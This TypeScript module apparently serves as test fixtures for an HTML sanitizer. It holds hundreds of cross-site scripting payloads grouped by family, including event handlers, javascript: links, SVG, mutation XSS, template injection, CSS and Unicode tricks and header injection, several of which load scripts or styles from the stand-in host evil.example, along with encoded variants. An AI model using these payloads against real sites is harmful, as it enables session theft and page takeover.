/** What hostile text calls when a browser runs it. */
const hit = "__hit()";

const handlers = [
  `<img src=x onerror=${hit}>`,
  `<img src=x onerror="${hit}"//`,
  `<img/src=x/onerror=${hit}>`,
  `<IMG SRC=x OnErRoR=${hit}>`,
  `<img src=x:x onerror\t=\n"${hit}">`,
  `<image src=x onerror=${hit}>`,
  `<img srcset="x 1x" onerror=${hit}>`,
  `<body onload=${hit}>`,
  `<body onpageshow=${hit}>`,
  `<body onhashchange=${hit}><a href=#x>x</a>`,
  `<frameset onload=${hit}>`,
  `<iframe onload=${hit}></iframe>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<iframe src="javascript:parent.${hit}"></iframe>`,
  `<object data=x onerror=${hit}></object>`,
  `<object data="javascript:${hit}"></object>`,
  `<embed src="javascript:${hit}">`,
  `<video src=x onerror=${hit}></video>`,
  `<video onloadstart=${hit}><source></video>`,
  `<video><source onerror=${hit} src=x></video>`,
  `<audio src=x onerror=${hit}></audio>`,
  `<audio autoplay oncanplay=${hit} src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IA=="></audio>`,
  `<details open ontoggle=${hit}><summary>x</summary></details>`,
  `<dialog open onclose=${hit}>x</dialog>`,
  `<input autofocus onfocus=${hit}>`,
  `<input type=image src=x onerror=${hit}>`,
  `<select autofocus onfocus=${hit}></select>`,
  `<textarea autofocus onfocus=${hit}></textarea>`,
  `<button autofocus onfocusin=${hit}>x</button>`,
  `<a autofocus tabindex=0 onfocus=${hit}>x</a>`,
  `<div contenteditable autofocus onfocus=${hit}>x</div>`,
  `<marquee onstart=${hit}>x</marquee>`,
  `<marquee loop=1 width=0 onfinish=${hit}>x</marquee>`,
  `<style onload=${hit}></style>`,
  `<link rel=stylesheet href=x onerror=${hit}>`,
  `<script src=x onerror=${hit}></script>`,
  `<div onpointerenter=${hit} style="position:fixed;inset:0">x</div>`,
  `<div onscrollend=${hit} style="overflow:auto;height:9px"><p id=y>x</div>`,
  `<p style="animation:x 1s" onanimationstart=${hit}>x</p>`,
  `<p style="transition:color 1s;color:red" ontransitionend=${hit}>x</p>`,
  `<div popover id=p onbeforetoggle=${hit}>x</div><button popovertarget=p>x</button>`,
  `<form><button formaction="javascript:${hit}">x</button></form>`,
  `<form action="javascript:${hit}"><input type=submit></form>`,
  `<isindex action="javascript:${hit}" type=image>`,
  `<keygen autofocus onfocus=${hit}>`,
];

const scripts = [
  `<script>${hit}</script>`,
  `<ScRiPt>${hit}</sCrIpT>`,
  `<script\t>${hit}</script\n>`,
  `<script/x>${hit}</script>`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `</title><script>${hit}</script>`,
  `</textarea><script>${hit}</script>`,
  `</style><script>${hit}</script>`,
  `</noscript><script>${hit}</script>`,
  `--><script>${hit}</script>`,
  `]]><script>${hit}</script>`,
  `<![CDATA[<script>${hit}</script>]]>`,
  `<script type=module>${hit}</script>`,
  `<script type=importmap>{"imports":{"x":"data:text/javascript,${hit}"}}</script>`,
  `<script src="data:text/javascript,${hit}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script>/*</script><script>*/${hit}</script>`,
  `<base href="//evil.example/"><script src=x.js></script>`,
  `<meta http-equiv=refresh content="0;url=javascript:${hit}">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
];

const svg = [
  `<svg onload=${hit}>`,
  `<svg/onload=${hit}//`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><script href="data:text/javascript,${hit}"/></svg>`,
  `<svg><script xlink:href="data:text/javascript,${hit}"></script></svg>`,
  `<svg><a xlink:href="javascript:${hit}"><text y=9>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${hit}"/><text y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  `<svg><set onbegin=${hit} attributeName=x to=1>`,
  `<svg><animatetransform onbegin=${hit} attributeName=transform>`,
  `<svg><image href=x onerror=${hit}></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${hit}'/></svg>#x"></svg>`,
  `<svg><foreignObject><img src=x onerror=${hit}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${hit}></style></svg>`,
  `<svg><title><img src=x onerror=${hit}></title></svg>`,
  `<svg><desc><script>${hit}</script></desc></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${hit}</handler></svg>`,
  `<math href="javascript:${hit}">x</math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${hit}">x</maction></math>`,
];

const links = [
  `javascript:${hit}`,
  `JaVaScRiPt:${hit}`,
  ` javascript:${hit}`,
  `\u0001javascript:${hit}`,
  `java\tscript:${hit}`,
  `java\nscript:${hit}`,
  `java\rscript:${hit}`,
  `javascript\t:${hit}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${hit}>*/${hit}`,
  `javascript://news.example/%0a${hit}`,
  `javascript:%5f%5fhit()`,
  `javascript&colon;${hit}`,
  `javascript&#58;${hit}`,
  `&#106;avascript:${hit}`,
  `&#x6a&#x61vascript:${hit}`,
  `vbscript:${hit}`,
  `livescript:${hit}`,
  `data:text/html,<script>opener.${hit}</script>`,
  "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19oaXQoKTwvc2NyaXB0Pg==",
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${hit}'/>`,
  `blob:https://evil.example/x`,
  `feed:javascript:${hit}`,
  `view-source:javascript:${hit}`,
  `//evil.example/x`,
  `https://evil.example/" onmouseover="${hit}`,
  `https://user:javascript:${hit}@evil.example/`,
];

const attributes = [
  `" onmouseover=${hit} x="`,
  `' onmouseover=${hit} x='`,
  `\` onmouseover=${hit} x=\``,
  `" autofocus onfocus=${hit} tabindex=0 x="`,
  `"><img src=x onerror=${hit}>`,
  `'><img src=x onerror=${hit}>`,
  `></a><img src=x onerror=${hit}>`,
  `"/><svg onload=${hit}>`,
  `" style="animation:x" onanimationstart="${hit}`,
  `\\"><script>${hit}</script>`,
  `\\';${hit};//`,
  `</script><script>${hit}</script>`,
  `";${hit};//`,
  `';${hit};'`,
  `\${${hit}}`,
  `"-${hit}-"`,
  `'-${hit}-'`,
  `"}});${hit};//`,
  `&quot; onmouseover=${hit} &quot;`,
  `%22%3E%3Cimg%20src=x%20onerror=${hit}%3E`,
];

const templates = [
  `{{constructor.constructor('${hit}')()}}`,
  `{{$on.constructor('${hit}')()}}`,
  `{{_c.constructor('${hit}')()}}`,
  `{{[].pop.constructor('${hit}')()}}`,
  `<div ng-app ng-csp>{{$eval.constructor('${hit}')()}}</div>`,
  `<div v-html="'<img src=x onerror=${hit}>'"></div>`,
  `<div x-data x-init="${hit}"></div>`,
  `<div hx-on:load="${hit}"></div>`,
  `<template><img src=x onerror=${hit}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${hit}></template>`,
  `<slot onslotchange=${hit}></slot>`,
  `#{${hit}} <%= ${hit} %> \${{${hit}}}`,
  `[x](javascript:${hit})`,
  `![x](x"onerror="${hit})`,
  `<javascript:${hit}>`,
];

/** Markup that is harmless as written and changes its meaning when it is parsed a second time. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${hit}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src=x onerror=${hit}></style></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${hit}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${hit}>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${hit}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${hit}>">`,
  `<plaintext><img src=x onerror=${hit}>`,
  `<listing>&lt;img src=x onerror=${hit}&gt;</listing>`,
  `<textarea><p title="</textarea><img src=x onerror=${hit}>">`,
  `<title><p title="</title><img src=x onerror=${hit}>">`,
  `<!--><img src=x onerror=${hit}>-->`,
  `<!--!><img src=x onerror=${hit}>-->`,
  `<!-- --!><img src=x onerror=${hit}> -->`,
  `<?xml-stylesheet href="javascript:${hit}"?>`,
  `<svg><annotation-xml encoding="text/html"><img src=x onerror=${hit}></annotation-xml></svg>`,
  `<table><td background="javascript:${hit}"><caption><img src=x onerror=${hit}></table>`,
  `<select><iframe></select><img src=x onerror=${hit}>`,
  `&lt;img src=x onerror=${hit}&gt;`,
  `&amp;lt;img src=x onerror=${hit}&amp;gt;`,
  `&#60;img src=x onerror=${hit}&#62;`,
  `\u003cimg src=x onerror=${hit}\u003e`,
];

const styles = [
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=prefetch href=//evil.example/x>`,
  `<link rel=preconnect href=//evil.example>`,
  `<div style="background:url(//evil.example/x)">x</div>`,
  `<div style="background:url(javascript:${hit})">x</div>`,
  `<div style="width:expression(${hit})">x</div>`,
  `<div style="behavior:url(//evil.example/x.htc)">x</div>`,
  `<input value=x style="color:red;background:url('//evil.example/x')">`,
  `;background:url(//evil.example/x);`,
  `<img src=//evil.example/pixel.gif>`,
  `<p style="position:fixed;inset:0;z-index:9999">Your session has ended</p>`,
];

/** Signs that turn text around, end it early or hide in it. */
const signs = [
  `\u202e<img src=x onerror=${hit}>`,
  `\u2066\u202e>)(tih__=rorreno x=crs gmi<\u2069`,
  `<im\u0000g src=x onerror=${hit}>`,
  `<img src=x on\u0000error=${hit}>`,
  `<scr\u0000ipt>${hit}</script>`,
  `\ufeff<script>${hit}</script>`,
  `\u2028<script>${hit}</script>\u2029`,
  `<\u200bscript>${hit}</script>`,
  `\uff1cscript\uff1e${hit}\uff1c/script\uff1e`,
  `\u02bcimg src=x onerror=${hit}\u02bc`,
  `<a\u000chref="javascript:${hit}">x</a>`,
  `\u001b]8;;javascript:${hit}\u0007x\u001b]8;;\u0007`,
  `\ud800<img src=x onerror=${hit}>\udfff`,
  `+ADw-script+AD4-${hit}+ADw-/script+AD4-`,
  `x\r\nContent-Type: text/html\r\n\r\n<script>${hit}</script>`,
];

/** Texts that run, ask another host or lie about themselves where a page takes them for more than text; by family. */
export const hostileTexts = { handlers, scripts, svg, links, attributes, templates, mutations, styles, signs };

/** All of them; each calls `__hit()` when it runs, and asks `evil.example` when it reaches out. */
export const allHostileTexts: readonly string[] = Object.values(hostileTexts).flat();

const entities: Record<string, string> = { "<": "&lt;", ">": "&gt;", '"': "&quot;", "&": "&amp;" };
const escapeOnce = (text: string): string => text.replace(/[<>"&]/g, (sign) => entities[sign] ?? sign);

/** The same texts as they look after what others do to them, or where others would have put them. */
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => escapeOnce(text),
  (text) => escapeOnce(escapeOnce(text)),
  (text) => text.replace(/<[a-z]+/gi, (tag) => tag.toUpperCase()),
  (text) => `"'></title></style></textarea>${text}`,
  (text) => `<!-- --!>${text}<!--`,
  (text) => `<![CDATA[${text}]]>`,
  (text) => `[x](${text}) ![](${text}) \`${text}\``,
];

/** How many times as many texts there are with all their disguises. */
export const disguiseCount = disguises.length;

/** Every text in one of its disguises, the plain one first. */
export const disguisedTexts = (disguise: number): string[] =>
  allHostileTexts.map((text) => (disguises[disguise] as (text: string) => string)(text));
